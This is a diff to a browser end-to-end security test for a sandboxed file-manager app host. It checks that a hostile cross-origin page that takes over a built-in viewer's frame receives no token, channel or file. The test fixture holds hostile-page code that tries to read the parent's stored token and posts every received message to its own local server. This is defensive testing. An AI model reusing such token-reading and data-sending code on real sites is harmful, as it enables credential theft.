@@ -27,6 +27,8 @@ let context: BrowserContext;
 let page: Page;
 let hostile: Server;
 let hostileOrigin = '';
+/** Every message the hostile page received, as it reported them to its own server. */
+const hostileSaw: string[] = [];
 
 const pageErrors: string[] = [];
 
@@ -129,6 +131,7 @@ const report = () => { document.title = JSON.stringify(r); };
 try { r.storage = String(window.parent.localStorage.getItem('skyferry.temp_token')); } catch (e) { r.storage = 'blocked'; }
 try { r.parentDoc = String(window.parent.document.title); } catch (e) { r.parentDoc = 'blocked'; }
 addEventListener('message', (e) => {
+  fetch(location.origin + '/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ data: e.data, ports: e.ports.length }) });
   r.messages.push({ origin: e.origin, kind: e.data && e.data.type + '/' + e.data.request, code: e.data && e.data.code, data: e.data && e.data.data });
   const token = e.data && e.data.data && e.data.data.token;
   if (token) {
@@ -174,7 +177,13 @@ beforeAll(async () => {
   put('Docs/code.ts', 'export const answer: number = 42;\n');
   for (let i = 1; i <= 16; i += 1) put(`Many/file-${String(i).padStart(2, '0')}.txt`, `text ${i}`);
   put('Many/a rather long name for a text file that does not fit in a tab.txt', 'long');
-  hostile = createServer((_req, res) => {
+  hostile = createServer((req, res) => {
+    if (req.method === 'POST') {
+      let body = '';
+      req.on('data', (c: Buffer) => (body += c.toString()));
+      req.on('end', () => (hostileSaw.push(body), res.end()));
+      return;
+    }
     res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
     res.end(HOSTILE_PAGE(server.url));
   });
@@ -477,6 +486,41 @@ describe('a hostile app from another origin', () => {
     // A visitor asking for the user token gets the login panel (spec section 4).
     expect(messages.find((m) => m.kind === 'user/get_token')?.code).toBe(401);
     await page.getByRole('dialog', { name: 'Log in' }).waitFor();
+    await page.keyboard.press('Escape');
+    await page.getByRole('dialog', { name: 'Log in' }).waitFor({ state: 'detached' });
+    await page
+      .getByTestId('app-tab')
+      .first()
+      .getByRole('button', { name: /^Close / })
+      .click();
+    await page.getByTestId('app-tab').waitFor({ state: 'detached' });
+  });
+
+  it('gets nothing when it takes over a built-in app’s sandbox, and the app is put back', async () => {
+    await openFolder('Docs');
+    await row('readme.md').dblclick();
+    const viewer = await shownApp('viewer');
+    await viewer.getByTestId('viewer-markdown').waitFor();
+    const key = await page.getByTestId('app-frame').filter({ visible: true }).getAttribute('data-app-key');
+    hostileSaw.length = 0;
+    // Whatever makes the frame navigate (a script, a link): the page that arrives has the same opaque origin.
+    const seen: string[] = [];
+    const onFrame = (f: Frame) => {
+      if (f.url().startsWith(hostileOrigin)) seen.push(f.url());
+    };
+    page.on('framenavigated', onFrame);
+    await viewer.evaluate((to: string) => {
+      (globalThis as unknown as { location: { href: string } }).location.href = to;
+    }, `${hostileOrigin}/app`);
+    await expect.poll(() => seen.length).toBeGreaterThan(0);
+    // The host put the viewer back in its frame, which shows the file again.
+    const back = await (await page.locator(`[data-app-key="${key}"]`).elementHandle())?.contentFrame();
+    await expect.poll(() => back?.url() ?? '').toMatch(/\/apps\/viewer\.html/);
+    await back?.getByTestId('viewer-markdown').waitFor();
+    page.off('framenavigated', onFrame);
+    // While it was there, the hostile page was sent nothing: no channel, no token, no file.
+    await page.waitForTimeout(500);
+    expect(hostileSaw).toEqual([]);
     expect(pageErrors).toEqual([]);
   });
 });
